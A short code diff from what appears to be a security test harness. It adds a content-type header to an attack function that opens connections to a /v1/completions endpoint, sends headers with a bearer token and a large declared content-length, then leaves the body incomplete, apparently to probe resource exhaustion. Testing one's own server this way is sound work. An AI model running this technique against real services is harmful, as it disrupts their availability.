@@ -32,6 +32,7 @@ def attack(target: AttackTarget) -> AttackResult:
         for size in SIZES:
             one = stack.enter_context(port.connect(30))
             head = f"POST /v1/completions HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {port.token}\r\n"
+            head += "content-type: application/json\r\n"
             with contextlib.suppress(OSError):
                 one.sendall(f"{head}content-length: {size}\r\n\r\n{{".encode())
             one.setblocking(False)
